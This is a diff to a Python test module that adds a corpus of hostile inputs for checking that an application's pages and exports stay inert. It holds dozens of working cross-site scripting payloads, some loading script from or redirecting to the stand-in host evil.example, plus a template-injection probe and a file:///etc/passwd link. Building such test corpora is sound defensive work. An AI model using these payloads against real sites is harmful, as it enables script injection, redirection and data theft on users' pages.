@@ -1,6 +1,7 @@
-"""Words that break exports: each with its name, by what they attack.
+"""The one corpus of hostile words: each with its name, by what they attack.
 
-A person may type them, or paste them. None of them is a command of ours.
+A person may type them, or paste them. None of them is a command of ours. Everything that takes a
+text is tried with them: the doors, the desk, the commands, the exports, the files of others.
 """
 
 from __future__ import annotations
@@ -221,6 +222,8 @@ ONE_MESSAGE: Mapping[str, Mapping[str, str]] = {
         "script URL": "javascript:alert(1)",
         "mailto": "mailto:x@exemple.invalid?subject=a&body=b",
         "link": "https://exemple.invalid/?a=b&c=d#e",
+        "address that is none": "http://[x/?a=b",
+        "address of two": "http://exemple.invalid℀a/b",
         "file link": "file:///etc/passwd",
         "UNC": "\\\\exemple\\partage\\mot",
         "internal link": "internal:Sheet2!A1",
@@ -250,6 +253,63 @@ ONE_MESSAGE: Mapping[str, Mapping[str, str]] = {
         "one figure": "0",
     },
 }  # fmt: skip
+# A page would run these: they call `window.pwned`, so that a browser tells.
+MARKUP: tuple[str, ...] = (
+    "<script>window.pwned=1</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    '"><script>window.pwned=1</script>',
+    "'><img src=x onerror=window.pwned=1>",
+    '" autofocus onfocus=window.pwned=1 x="',
+    "' onmouseover='window.pwned=1",
+    "</textarea><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</style><script>window.pwned=1</script>",
+    "<style>body{background:url(javascript:window.pwned=1)}</style>",
+    "<style>@import'//evil.example/x.css';</style>",
+    "<iframe src=javascript:window.pwned=1></iframe>",
+    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    "<a href=javascript:window.pwned=1>cliquez</a>",
+    '<a href="data:text/html,<script>window.pwned=1</script>">x</a>',
+    "<body onload=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<select autofocus onfocus=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<audio src=x onerror=window.pwned=1>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
+    "<object data=javascript:window.pwned=1></object>",
+    "<embed src=javascript:window.pwned=1>",
+    "<form action=//evil.example><input name=csrf><button>ok</button></form>",
+    "<base href=//evil.example/>",
+    '<meta http-equiv=refresh content="0;url=//evil.example">',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<div hx-get=/equipe/compte hx-trigger=load>x</div>",
+    '<div hx-on:htmx:load="window.pwned=1" hx-trigger=load>x</div>',
+    "<div data-hx-post=/equipe/deconnexion data-hx-trigger=load>x</div>",
+    "<template><script>window.pwned=1</script></template>",
+    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+    "<!--><img src=x onerror=window.pwned=1>-->",
+    "<![CDATA[<script>window.pwned=1</script>]]>",
+    "{{ 7*7 }}{% for x in () %}{{ config }}",
+    "${window.pwned=1}",
+    "javascript:window.pwned=1",
+    "\u202e<script>window.pwned=1</script>\u202c",
+    "＜script＞window.pwned=1＜/script＞",
+    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
+    "<img/src=x/onerror=window.pwned=1//",
+    "<img src=`x`onerror=window.pwned=1>",
+    "<x contenteditable onblur=window.pwned=1 tabindex=0 autofocus>",
+    "<button formaction=javascript:window.pwned=1 form=giving>x",
+    "<input type=hidden name=seen value=0 id=file>",
+    "<p id=carte><p id=fait><p id=raccourcis>",
+    "<marquee onstart=window.pwned=1>x</marquee>",
+    "<bdo dir=rtl>abc</bdo></bdi></p></article></main>",
+    "Dupont <b>06 12 34 56 78</b> <img src=x onerror=window.pwned=1>",
+    'Madame Dupont"><script>window.pwned=1</script>',
+)  # fmt: skip
 SEVERAL: Mapping[str, tuple[str, ...]] = {
     "40 000 characters": ("a" * LONG,) * 4,
     "40 000 accents": ("é" * LONG,) * 4,
@@ -269,8 +329,17 @@ def corpus() -> Iterator[Hostile]:
         for name, text in named.items():
             whole = text if any(map(str.isalnum, text)) else f"{text} mot"
             yield Hostile(why, name, (whole,))
+    for number, text in enumerate(MARKUP, 1):
+        yield Hostile("a page of the desk would run it", f"markup {number}", (text,))
     for name, texts in SEVERAL.items():
         yield Hostile("it does not fit in a cell", name, texts)
 
 
 CORPUS = tuple(corpus())
+TEXTS = tuple(one.texts[0] for one in CORPUS if len(one.texts) == 1)
+# An alphabet for what is made at random: what breaks things comes often.
+NASTY = (
+    *("\0", "\ud800", "\udbff", "\udc00", "\udfff", "\u200b", "\u200d", "\u2060", "\ufeff"),
+    *("\u202e", "\u2066", "\u2069", "\u200f", "=", "/", "+", "-", "@", "\t", "\r", "\n", "\x1b"),
+    *("'", '"', "<", ">", "&", "%", "\\", "{", "}", "[", "]", ";", "\u0301", "é", "🙂", "1", "a"),
+)
